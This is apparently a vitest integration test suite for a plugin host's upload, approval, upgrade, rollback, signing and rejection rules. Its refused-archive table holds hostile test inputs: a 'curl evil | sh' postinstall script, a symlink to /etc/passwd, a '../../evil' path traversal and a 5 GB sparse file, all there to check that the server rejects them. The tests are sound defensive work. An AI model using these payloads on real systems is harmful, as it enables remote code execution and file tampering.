import { generateKeyPairSync } from 'node:crypto'
import { appendFile, mkdir, readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { signTree } from '@patchbay/plugin-host/packages/signature'
import { packArchive, type TarEntry, toTar } from '@patchbay/plugin-host/packages/pack'
import { readArchive, unpackArchive } from '@patchbay/plugin-host/packages/unpack'
import { hashTree } from '@patchbay/plugin-host/packages/tree-hash'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Api, createApi, createDevice, readAll, type TestDevice } from '../harness/api.ts'
import { type InProcess, startInProcess } from '../harness/in-process.ts'
import { packFeed, uploadPlugin } from '../harness/packed-plugin.ts'
import { makeDataFolder, testKey } from '../harness/server-process.ts'

let data: Awaited<ReturnType<typeof makeDataFolder>>
let server: InProcess
let api: Api
const plugin = '/api/v1/plugins/acme-feed'
const instance = `${plugin}/instances/default`

const start = async (env: Record<string, string> = {}): Promise<void> => {
  server = await startInProcess({ data: data.path, bundled: [], env })
  api = createApi(server.url)
}
const restart = async (env: Record<string, string> = {}): Promise<void> => {
  await server.close()
  await start(env)
}
const upload = (archive: Uint8Array, query = '') => uploadPlugin(server.url, testKey, archive, query)
const said = async (): Promise<any> => (await fetch(`${server.url}/x/acme-feed`)).json()
const send = async (device: TestDevice, n: number): Promise<number> => {
  const response = await fetch(`${server.url}/x/acme-feed/readings`, {
    method: 'POST',
    headers: {
      authorization: `Basic ${Buffer.from(`${device.id}:${device.secret}`).toString('base64')}`,
      'content-type': 'application/json',
    },
    body: JSON.stringify({ ts: 1_760_000_000_000 + n, values: { n } }),
  })
  await response.arrayBuffer()
  return response.status
}
const install = async (): Promise<void> => {
  expect(await upload(packFeed(), '?approve=true')).toMatchObject({ status: 202, body: { approval: 'given' } })
  expect((await api.put(instance, { config: { channel: 'pressure', token: 's3cret' } })).body.state).toBe('running')
}
/** What lies unpacked, as `id/version`. */
const folders = async (): Promise<string[]> => {
  const root = join(data.path, 'plugin-packages')
  const found: string[] = []
  for (const id of await readdir(root).catch(() => []))
    for (const name of await readdir(join(root, id))) found.push(`${id}/${name.replace(/-[0-9a-f]{16}$/, '')}`)
  return found.toSorted()
}

const open = async (): Promise<void> => {
  data = await makeDataFolder()
  await start()
}
const close = async (): Promise<void> => {
  await server.close()
  await data.remove()
}

describe('a third party’s plugin on the running server', () => {
  beforeEach(open)
  afterEach(close)

  test(
    'is staged, approved, upgraded, rolled back and removed, and its data stays its own',
    { timeout: 30_000 },
    async () => {
      // Staged: it is shown, and nothing of it runs.
      const staged = await upload(packFeed())
      expect(staged).toMatchObject({
        status: 202,
        body: {
          id: 'acme-feed',
          version: '1.0.0',
          approval: 'pending',
          tier: 'unsigned',
          needs: { services: ['sessions'], http: ['/x/acme-feed own'], contributes: ['adapters'] },
        },
      })
      expect((await api.get(plugin)).body).toMatchObject({ state: 'staged', version: '1.0.0', instances: [] })
      expect((await fetch(`${server.url}/x/acme-feed`)).status).toBe(404)
      expect((await api.post(`${plugin}/approve`, { version: '9.9.9' })).body.code).toBe('PACKAGE_NOT_STAGED')
      expect((await api.post(`${plugin}/approve`, { version: '1.0.0', sha512: '0'.repeat(128) })).status).toBe(409)

      // Approved: it can have instances, and a reading arrives.
      const { status, body } = await api.post(`${plugin}/approve`, { version: '1.0.0', sha512: staged.body.sha512 })
      expect(status).toBe(200)
      expect(body).toMatchObject({ state: 'ready', version: '1.0.0', bundled: false, tier: 'unsigned' })
      expect(body.release.approvedAt).toBeDefined()
      expect((await api.put(instance, { config: { channel: 'pressure', token: 's3cret' } })).body.state).toBe('running')
      const device = await createDevice(api, 'boiler')
      expect(await send(device, 1)).toBe(204)
      expect((await readAll(api, 'boiler', 'n')).map(({ value }) => value)).toEqual([1])

      // A wider one asks again, even when it is to be approved at once.
      const wider = { needs: { services: ['sessions', 'messages'], connect: ['tcp:*:502'] } }
      const second = packFeed({ version: '1.1.0', configVersion: 2, manifest: wider })
      expect((await upload(second, '?approve=true')).body).toMatchObject({
        approval: 'pending',
        wider: ['services: messages', 'connect: tcp:*:502'],
      })
      expect((await said()).version).toBe('1.0.0')
      expect((await api.post(`${plugin}/approve`, { version: '1.1.0' })).body).toMatchObject({
        version: '1.1.0',
        previous: { version: '1.0.0' },
      })
      // The configuration was carried over, the store is the same, the secret is kept.
      expect(await said()).toEqual({ version: '1.1.0', config: { key: 'pressure', token: 's3cret' }, starts: 2 })
      expect(await folders()).toEqual(['acme-feed/1.0.0', 'acme-feed/1.1.0'])

      // And it is so after a restart.
      await restart()
      expect(await said()).toMatchObject({ version: '1.1.0', starts: 3 })

      // One call back: the old code with the old configuration, and forth again.
      expect((await api.post(`${plugin}/rollback`)).body).toMatchObject({
        version: '1.0.0',
        previous: { version: '1.1.0' },
      })
      expect(await said()).toEqual({ version: '1.0.0', config: { channel: 'pressure', token: 's3cret' }, starts: 4 })
      expect(await send(device, 2)).toBe(204)
      expect((await api.post(`${plugin}/rollback`)).body.version).toBe('1.1.0')
      expect(await said()).toMatchObject({ version: '1.1.0', config: { key: 'pressure' }, starts: 5 })

      // Removed: nothing of it is left.
      expect((await api.delete(plugin)).status).toBe(204)
      expect((await api.get(plugin)).status).toBe(404)
      expect((await fetch(`${server.url}/x/acme-feed`)).status).toBe(404)
      expect(await readdir(join(data.path, 'plugin-packages'))).toEqual([])
      expect((await readAll(api, 'boiler', 'n')).map(({ value }) => value)).toEqual([1, 2])
      await restart()
      expect((await api.get(plugin)).status).toBe(404)

      // And all of it was taken down.
      const { body: audit } = await api.get('/api/v1/audit?limit=200')
      const actions: string[] = audit.items.map((entry: any) => `${entry.action} ${entry.outcome}`)
      for (const action of [
        'POST /api/v1/plugins done',
        'POST /api/v1/plugins/acme-feed/approve done',
        'POST /api/v1/plugins/acme-feed/approve refused',
        'POST /api/v1/plugins/acme-feed/rollback done',
        'DELETE /api/v1/plugins/acme-feed done',
      ])
        expect(actions).toContain(action)
    },
  )

  test(
    'is swapped under 500 messages a second without losing one that was acknowledged',
    { timeout: 60_000 },
    async () => {
      await install()
      const device = await createDevice(api, 'busy')
      const acked: number[] = []
      const answers = new Map<number, number>()
      let sent = 0
      const going = { on: true }
      const began = performance.now()
      const ticks: Promise<void>[] = []
      const load = (async () => {
        while (going.on) {
          // Paced by the clock: 500 a second, whatever the answers take.
          const due = Math.floor((performance.now() - began) / 2)
          for (; sent < due; sent += 1) {
            const n = sent
            ticks.push(
              send(device, n).then((status) => {
                answers.set(status, (answers.get(status) ?? 0) + 1)
                if (status === 204) acked.push(n)
              }),
            )
          }
          await new Promise((resolve) => setTimeout(resolve, 4))
        }
      })()
      const reach = (n: number) => expect.poll(() => acked.length, { timeout: 20_000, interval: 10 }).toBeGreaterThan(n)
      await reach(500)
      for (let minor = 1; minor <= 3; minor += 1) {
        const version = `1.${minor}.0`
        expect((await upload(packFeed({ version, configVersion: 2 }), '?approve=true')).body.approval).toBe('given')
        await reach(acked.length + 300)
      }
      expect((await api.post(`${plugin}/rollback`)).body.version).toBe('1.2.0')
      await reach(acked.length + 300)
      going.on = false
      await load
      await Promise.all(ticks)
      const rate = Math.round((sent / (performance.now() - began)) * 1000)
      console.log(`swap under load: ${sent} sent at ${rate}/s over 4 swaps, answers ${JSON.stringify([...answers])}`)
      expect([...answers.keys()].every((status) => status === 204 || status === 503)).toBe(true)
      const stored = new Set((await readAll(api, 'busy', 'n')).map(({ value }) => value))
      expect(acked.filter((n) => !stored.has(n))).toEqual([])
      expect((await said()).version).toBe('1.2.0')
    },
  )

  test('that does not start is taken back by itself', { timeout: 20_000 }, async () => {
    await install()
    expect((await upload(packFeed({ version: '2.0.0', configVersion: 2, broken: true }))).status).toBe(202)
    const { status, body } = await api.post(`${plugin}/approve`, { version: '2.0.0' })
    expect([status, body.code]).toEqual([422, 'PACKAGE_UPGRADE_UNDONE'])
    expect(body.detail).toContain('the new gears are stuck')
    expect(await said()).toMatchObject({ version: '1.0.0', config: { channel: 'pressure', token: 's3cret' } })
    expect((await api.get(plugin)).body).toMatchObject({ version: '1.0.0', staged: { version: '2.0.0' } })
    expect((await api.get(instance)).body.state).toBe('running')
    expect((await api.delete(`${plugin}/staged`)).status).toBe(204)
    expect(await folders()).toEqual(['acme-feed/1.0.0'])
    await restart()
    expect((await said()).version).toBe('1.0.0')
  })

  test('whose schema is not what its code says is refused when it is approved', async () => {
    expect((await upload(packFeed({ files: { 'config.schema.json': '{}' } }))).status).toBe(202)
    expect((await api.post(`${plugin}/approve`, { version: '1.0.0' })).body.code).toBe('PLUGIN_SCHEMA_DRIFT')
    expect((await api.get(plugin)).body.state).toBe('staged')
  })

  test('keeps its instances where that is asked, and has them again when it comes back', async () => {
    await install()
    expect((await api.delete(`${plugin}?data=keep`)).status).toBe(204)
    expect((await fetch(`${server.url}/x/acme-feed`)).status).toBe(404)
    await restart()
    expect((await upload(packFeed({ version: '1.2.0' }), '?approve=true')).status).toBe(202)
    expect(await said()).toMatchObject({ version: '1.2.0', config: { channel: 'pressure' }, starts: 2 })
  })

  test('whose files were touched is not loaded, and says so', async () => {
    await install()
    const [folder = ''] = await readdir(join(data.path, 'plugin-packages', 'acme-feed'))
    await appendFile(join(data.path, 'plugin-packages', 'acme-feed', folder, 'dist', 'index.js'), '// one more line\n')
    await restart()
    expect((await api.get(plugin)).body).toMatchObject({ state: 'refused', problem: { code: 'PACKAGE_CHANGED' } })
    expect((await api.get(instance)).body.status.code).toBe('PACKAGE_CHANGED')
    expect((await upload(packFeed({ version: '1.0.1' }), '?approve=true')).status).toBe(202)
    expect((await said()).version).toBe('1.0.1')
  })
})

describe('what is refused at the door', () => {
  beforeAll(open)
  afterAll(close)

  const archiveOf = (entry: TarEntry) => (): Buffer => gzipSync(toTar([entry]))
  const sizeBytes = 5 * 1024 ** 3
  /** The sentences are those of docs/plugins/failures.md. */
  const refused: [string, () => Buffer, number, string, string?][] = [
    [
      'a symbolic link',
      archiveOf({ path: 'package/l', type: '2', link: '/etc/passwd' }),
      422,
      'PACKAGE_ENTRY_REFUSED',
      'The archive holds a symbolic link ("package/l"); only plain files may be in a plugin.',
    ],
    [
      'a path that leads out',
      archiveOf({ path: 'package/../../evil', bytes: Buffer.from('x') }),
      422,
      'PACKAGE_PATH_REFUSED',
      'The archive holds "package/../../evil", which leads out of the package.',
    ],
    [
      'a sparse file of 5 GB',
      archiveOf({ path: 'package/s', type: 'S', sizeBytes }),
      422,
      'PACKAGE_ENTRY_REFUSED',
      'The archive holds a sparse file ("package/s"); only plain files may be in a plugin.',
    ],
    [
      'a file of 5 GB',
      archiveOf({ path: 'package/s', sizeBytes }),
      413,
      'PACKAGE_TOO_LARGE',
      'The archive is refused: a file of it has 5368709120 bytes, more than 16777216. A plugin is one packed file with its manifest.',
    ],
    [
      'an install script',
      () => packFeed({ pack: { scripts: { postinstall: 'curl evil | sh' } } }),
      422,
      'PACKAGE_RULE_BROKEN',
      'acme-feed is refused: its package.json has the script postinstall, and none is ever run here; build before packing.',
    ],
    ['packages beside it', () => packFeed({ pack: { dependencies: { left: '1.0.0' } } }), 422, 'PACKAGE_RULE_BROKEN'],
    ['native code', () => packFeed({ files: { 'dist/a.node': 'x' } }), 422, 'PACKAGE_RULE_BROKEN'],
    ['a folder of packages', () => packFeed({ files: { 'node_modules/a/index.js': 'x' } }), 422, 'PACKAGE_RULE_BROKEN'],
    ['no version', () => packFeed({ version: 'latest' }), 422, 'PACKAGE_RULE_BROKEN'],
    ['a privileged manifest', () => packFeed({ manifest: { privileged: true } }), 422, 'PACKAGE_RULE_BROKEN'],
    [
      'an entry that is not there',
      () => packFeed({ manifest: { entry: 'dist/other.js' } }),
      422,
      'PLUGIN_FILE_MISSING',
    ],
    [
      'an unknown field',
      () => packFeed({ files: { 'plugin.json': '{"manifest":1,"extra":1}' } }),
      422,
      'PLUGIN_MANIFEST_INVALID',
    ],
    ['another API', () => packFeed({ manifest: { api: '^7.0.0' } }), 422, 'PLUGIN_API_MISMATCH'],
    ['every API', () => packFeed({ manifest: { api: '*' } }), 422, 'PLUGIN_API_MISMATCH'],
    ['no gzip', () => Buffer.from('hello'), 422, 'PACKAGE_MALFORMED'],
    ['too many bytes', () => Buffer.alloc(21 * 1024 * 1024), 413, 'PAYLOAD_TOO_LARGE'],
  ]
  test.each(refused)('%s', async (_name, make, status, code, sentence) => {
    const answer = await upload(make(), '?approve=true')
    expect([answer.status, answer.body.code]).toEqual([status, code])
    expect(answer.body.detail.length).toBeGreaterThan(20)
    if (sentence !== undefined) expect(answer.body.detail).toBe(sentence)
    expect((await api.get('/api/v1/plugins')).body.items).toEqual([])
    expect(await folders()).toEqual([])
  })

  test('an older version, the same version, and another body', async () => {
    await install()
    expect((await upload(packFeed({ version: '0.9.0' }))).body.code).toBe('PACKAGE_DOWNGRADE')
    expect((await upload(packFeed())).body.code).toBe('PACKAGE_VERSION_TAKEN')
    expect((await upload(packFeed({ files: { 'README.md': 'new' } }))).body.code).toBe('PACKAGE_VERSION_TAKEN')
    expect((await api.post('/api/v1/plugins', { tarball: 'x' })).status).toBe(422)
    expect((await api.post(`${plugin}/rollback`)).body.code).toBe('PACKAGE_NO_PREVIOUS')
    expect((await upload(packFeed(), '?approve=maybe')).status).toBe(400)
  })
})

describe('the policy', () => {
  beforeEach(open)
  afterEach(close)

  const { privateKey, publicKey } = generateKeyPairSync('ed25519')
  const raw = Buffer.from(publicKey.export({ format: 'jwk' }).x ?? '', 'base64url').toString('base64')
  /** The archive with a signature over what is in it, or over what was in another. */
  const signed = async (archive: Buffer, more: { path: string; bytes: Buffer }[] = []): Promise<Buffer> => {
    const folder = join(data.path, 'sign', String(Math.random()))
    await mkdir(folder, { recursive: true })
    await unpackArchive(archive, folder)
    const files = []
    for await (const file of readArchive(archive)) files.push(file)
    const signature = Buffer.from(JSON.stringify(signTree(await hashTree(folder), privateKey)))
    return packArchive([...files, { path: 'signature.json', bytes: signature }, ...more])
  }

  test('signed: lets in what a trusted publisher signed, and no longer once the key is taken back', async () => {
    const env = { PATCHBAY_PLUGIN_POLICY: 'signed', PATCHBAY_PLUGIN_PUBLISHERS: `acme=${raw}` }
    await restart(env)
    expect(await upload(packFeed())).toMatchObject({ status: 403, body: { code: 'PACKAGE_POLICY' } })
    const touched = await signed(packFeed(), [{ path: 'extra.js', bytes: Buffer.from('1') }])
    expect((await upload(touched)).body.code).toBe('PACKAGE_SIGNATURE_INVALID')
    const good = await upload(await signed(packFeed()), '?approve=true')
    expect(good.body).toMatchObject({ tier: 'signed', publisher: 'acme', approval: 'given' })
    await restart(env)
    expect((await api.get(plugin)).body).toMatchObject({ state: 'ready', tier: 'signed' })
    await restart({ PATCHBAY_PLUGIN_POLICY: 'signed' })
    expect((await api.get(plugin)).body).toMatchObject({ state: 'refused', problem: { code: 'PACKAGE_POLICY' } })
  })

  test('verified: lets in what is listed by its content; bundled: nothing', async () => {
    const { body } = await upload(packFeed())
    const list = join(data.path, 'verified.json')
    await writeFile(list, JSON.stringify([{ id: 'acme-feed', version: '1.0.0', sha512: body.sha512 }]))
    await restart({ PATCHBAY_PLUGIN_POLICY: 'verified', PATCHBAY_PLUGIN_VERIFIED: list })
    expect((await upload(packFeed({ version: '1.0.1' }))).body.code).toBe('PACKAGE_POLICY')
    expect((await upload(packFeed(), '?approve=true')).body).toMatchObject({ tier: 'verified', approval: 'given' })
    await restart({ PATCHBAY_PLUGIN_POLICY: 'bundled' })
    expect((await api.get(plugin)).body.problem.code).toBe('PACKAGE_POLICY')
    expect((await upload(packFeed({ version: '1.0.2' }))).body.code).toBe('PACKAGE_POLICY')
  })
})
